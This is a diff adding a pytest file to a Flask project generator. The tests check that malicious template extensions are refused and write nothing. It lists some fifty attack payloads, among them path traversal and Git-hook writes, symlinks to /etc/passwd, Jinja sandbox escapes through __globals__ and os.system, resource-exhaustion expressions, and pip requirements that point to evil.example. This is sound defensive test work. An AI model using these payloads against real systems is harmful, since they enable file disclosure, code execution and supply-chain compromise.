@@ -1,0 +1,156 @@
+"""What broke copier in 2025 and 2026, tried with an extension: each is refused, with the reason."""
+
+from __future__ import annotations
+
+import os
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from flaskgen.effects.shipped.compatibility_data import load_lines
+from flaskgen.effects.shipped.templates import load_catalogue
+from flaskgen.errors import TemplateDefect
+from flaskgen.planning.flask.releases import FlaskRelease
+from flaskgen.planning.project.names import ProjectName
+from flaskgen.planning.project.spec import ProjectSpec, render_project
+
+MANIFEST = (
+    'title = "Evil"\nsummary = "s"\norder = 200\nversion = "1"\n[flask."0.10 to 3.1"]\nrequirements = []\n'
+)
+Attack = Callable[[Path], None]
+
+
+def write(directory: Path, path: str, text: str) -> None:
+    file = directory / path
+    file.parent.mkdir(parents=True, exist_ok=True)
+    file.write_text(text, encoding="utf-8")
+
+
+def lands_on(path: str) -> Attack:
+    return lambda directory: write(directory, f"files/{path}.jinja", "x\n")
+
+
+def renders(text: str) -> Attack:
+    return lambda directory: write(directory, "files/evil.txt.jinja", text)
+
+
+def fills(text: str) -> Attack:
+    return lambda directory: write(
+        directory, "slots.jinja", f'{{% fill "readme.about" %}}\n{text}\n{{% endfill %}}\n'
+    )
+
+
+def says(text: str) -> Attack:
+    return lambda directory: write(directory, "manifest.toml", text + MANIFEST)
+
+
+def links(path: str, target: str) -> Attack:
+    def attack(directory: Path) -> None:
+        link = directory / path
+        link.parent.mkdir(parents=True, exist_ok=True)
+        link.symlink_to(target)
+
+    return attack
+
+
+def many_files(directory: Path) -> None:
+    for number in range(1100):
+        write(directory, f"files/{number}", "")
+
+
+def tried(directory: Path) -> None:
+    catalogue = load_catalogue([directory], ["evil"])
+    line = load_lines()[-1]
+    release = catalogue.on(FlaskRelease(line.tested, line))
+    render_project(ProjectSpec(ProjectName("shop"), release, "3.13", ("evil",)), catalogue, secret_key="k")
+
+
+ATTACKS = {
+    # Paths that leave the project: CVE-2025-55214, CVE-2026-23986
+    "traversal": lands_on("{{ '..' }}/evil"),
+    "traversal in the middle": lands_on("a/{{ '..' }}/{{ '..' }}/evil"),
+    "absolute": lands_on("{{ '/etc/evil' }}"),
+    "absolute in two parts": lands_on("{{ '' }}/etc"),
+    "home of Windows": lands_on("{{ 'C:' }}/evil"),
+    "backslashes": lands_on("{{ '..' + '\\\\\\\\' + 'evil' }}"),
+    "hooks of Git": lands_on(".git/hooks/pre-commit"),
+    "hooks of Git below": lands_on("vendor/.GIT/hooks/pre-commit"),
+    "short name": lands_on("git~1/config"),
+    "environment": lands_on(".venv/lib/site.pth"),
+    "record": lands_on(".flaskgen/project.toml"),
+    "pins": lands_on("requirements.txt"),
+    "device": lands_on("nul.txt"),
+    "invisible": lands_on(".g\u200cit/config"),
+    "line break": lands_on("{{ 'a\\nb' }}"),
+    "file of the base": lands_on("wsgi.py"),
+    "file above the package": lands_on("{{package}}"),
+    "once": says('once = ["../../.bashrc"]\n'),
+    # Links: CVE-2025-55201, CVE-2026-23968
+    "link to a file": links("files/passwd", "/etc/passwd"),
+    "link to a directory": links("files/etc", "/etc"),
+    "link to nothing": links("files/gone", "gone"),
+    "link of slots": links("slots.jinja", "/etc/passwd"),
+    "link of an overlay": links("with/login", "/etc"),
+    # Other files: CVE-2026-34726, CVE-2026-53951
+    "include": renders("{% include '/etc/passwd' %}"),
+    "include of a neighbour": renders("{% include '../manifest.toml' %}"),
+    "import": renders("{% import 'evil.txt' as x %}"),
+    "from": renders("{% from '../x' import y %}"),
+    "extends": renders("{% extends '/etc/passwd' %}"),
+    "include in a fill": fills("{% include '/etc/passwd' %}"),
+    # Escapes from the sandbox: GHSA-hgjq-p8cr-gg4h
+    "classes": renders("{{ ''.__class__.__mro__ }}"),
+    "attr": renders("{{ ''|attr('__class__') }}"),
+    "map": renders("{{ ['']|map(attribute='__class__')|first }}"),
+    "format": renders("{{ '{0.__class__}'.format(slot) }}"),
+    "format of a list": renders("{{ ['{0.__globals__}'.format]|map('string')|list }}{{ slot.__globals__ }}"),
+    "globals": renders("{{ slot.__globals__['os'].system('true') }}"),
+    "self": renders("{{ self.__init__.__globals__ }}"),
+    "cycler": renders("{{ cycler.__init__ }}"),
+    "change of a value": renders("{% set x = options.update({'a': 1}) %}"),
+    "do": renders("{% do requirements %}"),
+    "power": renders("{{ 9 ** 9 ** 9 }}"),
+    "much text": renders("{{ 'x' * 10 ** 10 }}"),
+    "much padding": renders("{{ '%1000000000s' % 'x' }}"),
+    "range": renders("{% for a in range(99999) %}{% endfor %}"),
+    "division": renders("{{ 1 / 0 }}"),
+    "recursion": renders("{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}"),
+    "escape in the manifest": says('note = "\\u001b[2J"\n'),
+    "address": lambda directory: write(
+        directory, "manifest.toml", MANIFEST.replace("[]", '["x @ https://evil.example/x.whl"]')
+    ),
+    "option of pip": lambda directory: write(
+        directory, "manifest.toml", MANIFEST.replace("[]", '["--index-url=https://evil.example"]')
+    ),
+    "trait of another": says('provides = ["login"]\n'),
+    "many files": many_files,
+}
+
+
+@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
+def test_an_attack_is_refused_and_writes_nothing(attack: Attack, tmp_path: Path) -> None:
+    directory = tmp_path / "evil"
+    write(directory, "manifest.toml", MANIFEST)
+    attack(directory)
+    before = sorted(os.walk(tmp_path))
+    with pytest.raises(TemplateDefect) as refused:
+        tried(directory)
+    assert "\n" not in refused.value.message
+    assert "\x1b" not in refused.value.message
+    assert "root:" not in refused.value.message
+    assert sorted(os.walk(tmp_path)) == before
+
+
+def test_without_an_attack_the_extension_is_rendered(tmp_path: Path) -> None:
+    write(tmp_path / "evil", "manifest.toml", MANIFEST)
+    write(tmp_path / "evil", "files/fine.txt.jinja", "{% for one in requirements %}{{ one }}{% endfor %}\n")
+    tried(tmp_path / "evil")
+
+
+def test_a_link_below_a_directory_of_extensions_is_refused(tmp_path: Path) -> None:
+    write(tmp_path / "elsewhere" / "evil", "manifest.toml", MANIFEST)
+    (tmp_path / "mine").mkdir()
+    (tmp_path / "mine" / "evil").symlink_to(tmp_path / "elsewhere" / "evil")
+    with pytest.raises(TemplateDefect, match="not a link"):
+        load_catalogue([tmp_path / "mine"], ["evil"])
